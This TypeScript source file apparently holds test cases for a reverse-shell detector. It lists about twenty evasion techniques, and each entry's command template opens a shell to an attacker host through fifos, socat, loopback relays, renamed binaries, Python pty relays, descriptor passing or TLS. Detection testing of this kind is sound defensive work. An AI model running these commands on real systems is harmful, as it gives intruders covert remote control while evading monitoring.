// Connection and shell are in different processes; something carries the bytes.
import { type Evasion, evasion, fromFile, PROGRAMS, peer, tcp } from "./row.ts";

export const RELAYS: readonly Evasion[] = [
  evasion(
    "two fifos and three cats stand between netcat and the shell",
    "whoever follows one pipe finds a cat",
    (place) => `
      cd ${place.folder}; mkfifo a b c
      nc ${peer(place)} <c >a & cat <a | cat | cat >b & sh <b 2>&1 | cat >c`,
  ),
  evasion(
    "tail follows the file that netcat writes",
    "a file is no pipe: nothing connects the two ends",
    (place) => `
      cd ${place.folder}; touch in out
      tail -f out | nc ${peer(place)} >in & tail -f in | sh >out 2>&1`,
  ),
  evasion(
    "a loop polls the file that netcat writes",
    "nothing but a file, and no reader waits",
    (place) => `
      cd ${place.folder}; touch in out
      (tail -f out | nc ${peer(place)} >in) &
      for i in $(seq 40); do [ -s in ] && { sh ./in >>out 2>&1; : >in; }; sleep 0.1; done`,
  ),
  evasion(
    "socat relays through a unix socket",
    "the shell's socat has no connection to anywhere",
    (place) => `
      socat UNIX-LISTEN:${place.folder}/s TCP:${place.attacker}:${place.port} & sleep 0.3
      socat UNIX-CONNECT:${place.folder}/s EXEC:sh,stderr`,
  ),
  evasion(
    "socat relays through the loopback",
    "the shell's peer is this host",
    (place) => `
      socat TCP-LISTEN:1${place.port},bind=127.0.0.1 TCP:${place.attacker}:${place.port} & sleep 0.3
      bash -i >& /dev/tcp/127.0.0.1/1${place.port} 0>&1`,
  ),
  evasion(
    "the loopback is dialled from outside of the shell",
    "the shell accepts, from this host only",
    (place) => `
      socat TCP-LISTEN:1${place.port},bind=127.0.0.1 EXEC:sh,stderr & sleep 0.3
      socat TCP:${place.attacker}:${place.port} TCP:127.0.0.1:1${place.port}`,
  ),
  evasion(
    "a renamed shell behind a terminal of python",
    "nobody knows the program, nobody knows the relay",
    (place) =>
      `exec python3 -c 'import os,pty,socket;s=socket.create_connection(("${place.attacker}",${place.port}));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/usr/local/bin/kworkerd")'`,
  ),
  evasion(
    "a renamed shell that came after the installation",
    "a file that nobody has looked at yet",
    (place) => `cp /bin/bash ${place.folder}/update; exec 5<>${tcp(place)}; ${place.folder}/update <&5 >&5 2>&1`,
  ),
  evasion(
    "a renamed shell behind a fifo, both fresh copies",
    "nobody has looked at either of them",
    (place) => `
      cd ${place.folder}; cp /bin/dash job; cp /bin/nc.openbsd ship; mkfifo x
      ./job <x 2>&1 | ./ship ${peer(place)} >x`,
  ),
  fromFile(
    "a program from a file relays to a terminal",
    "a web terminal is exactly that",
    "python3",
    (place) => `
import os, pty, select, socket
s = socket.create_connection(("${place.attacker}", ${place.port}))
pid, master = pty.fork()
if pid == 0:
    os.execv("/bin/bash", ["bash"])
while True:
    ready = select.select([s, master], [], [])[0]
    if s in ready:
        os.write(master, s.recv(4096))
    if master in ready:
        s.sendall(os.read(master, 4096))`,
  ),
  fromFile(
    "a program from a file relays to pipes",
    "a CI agent is exactly that",
    "python3",
    (place) => `
import select, socket, subprocess
s = socket.create_connection(("${place.attacker}", ${place.port}))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
while True:
    ready = select.select([s, p.stdout], [], [])[0]
    if s in ready:
        p.stdin.write(s.recv(4096))
        p.stdin.flush()
    if p.stdout in ready:
        s.sendall(p.stdout.read1(4096))`,
  ),
  fromFile(
    "a program from a file speaks first and relays to a socketpair",
    "a client that greets looks like any client",
    "python3",
    (place) => `
import socket, subprocess, threading
s = socket.create_connection(("${place.attacker}", ${place.port}))
s.sendall(b"GET /agent HTTP/1.1\\r\\nHost: updates\\r\\n\\r\\n")
a, b = socket.socketpair()
subprocess.Popen(["/bin/sh"], stdin=b, stdout=b, stderr=b)
def carry(x, y):
    while True:
        y.sendall(x.recv(4096) or exit())
threading.Thread(target=carry, args=(a, s)).start()
carry(s, a)`,
  ),
  evasion(
    "the socket is passed over a unix socket to another process",
    "who has the shell never connected",
    (place) => `
      cat >${place.folder}/r.py <<'END'
import os, socket, sys
u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen()
c, _ = u.accept()
fd = socket.recv_fds(c, 10, 1)[1][0]
for n in (0, 1, 2): os.dup2(fd, n)
os.execv("/bin/sh", ["sh"])
END
      cp ${place.folder}/r.py /srv/r-${place.port}.py; (python3 /srv/r-${place.port}.py ${place.folder}/u &) ; sleep 0.5
      exec python3 -c 'import socket,time
s=socket.create_connection(("${place.attacker}",${place.port})); u=socket.socket(socket.AF_UNIX); u.connect("${place.folder}/u"); socket.send_fds(u,[b"x"],[s.fileno()]); time.sleep(5)'`,
    { user: "root" },
  ),
  fromFile(
    "a shell inherits the connection and moves it by itself",
    "at its start standard input is empty",
    "python3",
    (place) => `
import socket, subprocess
s = socket.create_connection(("${place.attacker}", ${place.port}))
n = s.fileno()
subprocess.run(["bash", "-c", "exec sh <&%d >&%d 2>&1" % (n, n)], pass_fds=[n], stdin=subprocess.DEVNULL)`,
  ),
  evasion(
    "a compiled relay splices to a shell",
    "no bytes are ever read",
    (place) => `exec ${PROGRAMS}/splice_relay ${peer(place)} /bin/sh`,
  ),
  evasion(
    "a compiled relay splices to a renamed shell",
    "no bytes are ever read, no program is known",
    (place) => `exec ${PROGRAMS}/splice_relay ${peer(place)} /usr/local/bin/metricsd`,
  ),
  evasion(
    "a compiled agent runs each line by popen",
    "no shell lasts, and the agent is nobody's package",
    (place) => `exec ${PROGRAMS}/agent ${peer(place)}`,
  ),
  evasion(
    "a compiled agent in a system directory runs each line by popen",
    "it lies where root's programs lie",
    (place) =>
      `cp ${PROGRAMS}/agent /usr/local/sbin/agent-${place.port}; exec /usr/local/sbin/agent-${place.port} ${peer(place)}`,
    { user: "root" },
  ),
  evasion(
    "socat over TLS executes a shell on a terminal",
    "what passes cannot be read",
    (place) => `exec socat OPENSSL:${place.attacker}:${place.port},verify=0 EXEC:sh,pty,stderr,setsid`,
    { transport: "tls" },
  ),
  evasion(
    "netcat, tee and dd in a ring",
    "the ring is longer than anybody follows",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | tee /dev/null | dd bs=1 2>/dev/null | sh >${place.folder}/x 2>&1`,
  ),
  evasion(
    "netcat listens on the loopback for a relay of python",
    "three programs, two connections, none of them whole",
    (place) => `
      mkfifo ${place.folder}/x; (sh <${place.folder}/x 2>&1 | nc -l 127.0.0.1 1${place.port} >${place.folder}/x) & sleep 0.4
      exec python3 -c 'import socket,threading
a=socket.create_connection(("${place.attacker}",${place.port})); b=socket.create_connection(("127.0.0.1",1${place.port}))
def carry(x,y):
    while True: y.sendall(x.recv(4096) or exit())
threading.Thread(target=carry,args=(b,a)).start(); carry(a,b)'`,
  ),
];
